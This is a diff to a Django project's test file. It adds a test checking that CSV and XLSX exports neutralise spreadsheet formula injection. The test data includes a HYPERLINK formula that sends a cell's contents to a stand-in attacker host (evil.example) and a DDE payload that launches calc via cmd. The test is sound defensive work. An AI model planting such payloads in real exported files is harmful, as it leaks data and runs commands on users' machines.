@@ -444,3 +444,47 @@ def test_admin_forms_render(people, kim):
     assert client.get(DASHBOARD, {"jahr": "kein Jahr"}).status_code == 200
     page = client.get(reverse("contracts_admin:review", args=[kim.report_b.pk])).content.decode()
     assert "wartet nicht auf eine Prüfung" in page
+
+
+EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_exports_neutralise_formula_injection(people, kim, prefix):
+    """A member named like a formula stays plain text in CSV and XLSX; numbers stay numbers."""
+    member = people.users["member_a"]
+    member.first_name, member.last_name = EVIL, ""
+    member.save()
+    submitted(kim.report_a, member)
+    title = f"{prefix}SUM(1+1)*cmd|' /C calc'!A0"
+    kim.contract_a.title = title
+    kim.contract_a.yearly_amount = Decimal("-12.50")
+    kim.contract_a.save()
+    client = people.client("editor")
+
+    def record(rows):
+        header = rows[0]
+        return next(dict(zip(header, row, strict=True)) for row in rows[1:] if row[0] == "56-A-1")
+
+    text = client.get(reverse("contracts_admin:export", args=["berichte", "csv"])).content.decode("utf-8-sig")
+    assert record(list(csv.reader(io.StringIO(text), delimiter=";")))["Eingereicht von"] == "'" + EVIL
+    text = client.get(reverse("contracts_admin:export", args=["vertraege", "csv"])).content.decode("utf-8-sig")
+    contract = record(list(csv.reader(io.StringIO(text), delimiter=";")))
+    assert contract["Bezeichnung"] == "'" + title
+    assert contract["Jahresbetrag (EUR)"] == "-12,50"  # a negative number is not text
+
+    for what in ("berichte", "vertraege"):
+        response = client.get(reverse("contracts_admin:export", args=[what, "xlsx"]))
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+        header = [c.value for c in sheet[1]]
+        row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "56-A-1")
+        cells = {name: c.value for name, c in zip(header, row, strict=True)}
+        types = {name: c.data_type for name, c in zip(header, row, strict=True)}
+        if what == "berichte":
+            assert cells["Eingereicht von"] == "'" + EVIL and types["Eingereicht von"] == "s"
+            assert cells["Laufende Fälle gesamt"] == 12 and types["Laufende Fälle gesamt"] == "n"
+        else:
+            assert cells["Bezeichnung"] == "'" + title
+            assert cells["Jahresbetrag (EUR)"] == pytest.approx(-12.5) and types["Jahresbetrag (EUR)"] == "n"
+            assert types["Stellen (VZÄ)"] == "n" and types["Vertragsbeginn"] == "d"
